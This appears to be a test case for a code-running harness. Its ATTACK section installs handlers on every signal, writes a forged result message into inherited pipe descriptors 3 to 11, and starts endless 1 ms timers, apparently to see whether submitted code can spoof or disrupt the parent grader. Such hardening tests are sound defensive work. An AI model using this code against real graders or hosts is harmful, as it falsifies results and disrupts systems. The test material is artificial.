# Tries: host code whose timers and handlers interrupt the program that calls it, at every moment and without end.
# Ends: they affect only the child; a missing answer is a miss.
### BASE


### ATTACK
import os
import signal


def again(number, frame):
    for pipe in range(3, 12):
        try:
            os.write(pipe, (9).to_bytes(4, "big") + b"[0, [1,2]")
        except OSError:
            pass
    raise KeyboardInterrupt


for number in range(1, 65):
    try:
        signal.signal(number, again)
    except (OSError, ValueError):
        pass


def gaps(db):
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    signal.setitimer(signal.ITIMER_PROF, 0.001, 0.001)
    return []
### INSTEAD
def gaps(db):
    raise RuntimeError
### END
